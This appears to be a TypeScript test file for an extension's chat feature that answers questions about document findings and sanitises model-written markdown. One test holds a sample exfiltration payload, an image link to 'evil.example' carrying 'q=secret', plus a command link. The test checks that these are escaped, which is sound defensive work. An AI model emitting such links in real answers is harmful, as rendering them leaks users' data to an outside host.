import assert from 'node:assert/strict';
import { modelMarkdown } from '../../../../src/extension/chat/parts';
import { answerParts, questionOn } from '../../../../src/extension/chat/question';
import { inEnglish } from '../../../../src/messages/inEnglish';
import { english, linked, pages, readExample, shown } from './read';

describe('a question in the chat', () => {
	it('is answered from the listed findings, the first to be mended first, with what mends each kind', async () => {
		const read = readExample('grid-storage');
		const asked = await questionOn(read, 'What is worst?', { earlier: '', line: 21, pages });
		assert.equal(asked.findings[0]?.code, 'citation.broken');
		assert.equal(asked.findings.length, read.analysis.findings.filter(({ held }) => !held).length);
		assert.deepEqual([...asked.advice.keys()].sort(), [...new Set(asked.findings.map(({ code }) => code))].sort());
		for (const text of asked.advice.values()) assert.ok(text.length > 40);
		const counts = asked.counts.map(inEnglish);
		assert.ok(counts.some((line) => line.startsWith('6 findings')));
		assert.ok(counts.includes("The author's cursor is on line 21."));
	});

	it('is not longer than a question is', async () => {
		const asked = await questionOn(readExample('grid-storage'), 'x'.repeat(9_000), {
			earlier: '',
			line: undefined,
			pages,
		});
		assert.equal(asked.question.length, 4_000);
	});

	it('is answered with the lines of the findings to click, and by whom', () => {
		const read = readExample('grid-storage');
		const [finding] = read.analysis.findings;
		const parts = answerParts(['Begin with ', finding!, ', then\n- the **rest**'], read, 'sage', english);
		assert.deepEqual(linked(parts), [52]);
		assert.match(
			shown(parts),
			/^Begin with <line 52>, then\n- the \\\*\\\*rest\\\*\\\*\n\n\*Answered by sage from the findings\./,
		);
	});

	it('shows of a model’s answer nothing that can be clicked or loaded', () => {
		const text = modelMarkdown(
			'- see ![x](https://evil.example/?q=secret)\n\n<b>bold</b> [run](command:a) `code`\n1. https://evil.example',
		);
		assert.doesNotMatch(text, /(?<!\\)\]|(?<!\\)<|(?<!\\)`|(?<!\\):\/\//);
		assert.match(text, /^- see \\!\\\[x/);
		assert.match(text, /^1\. https/m);
	});
});
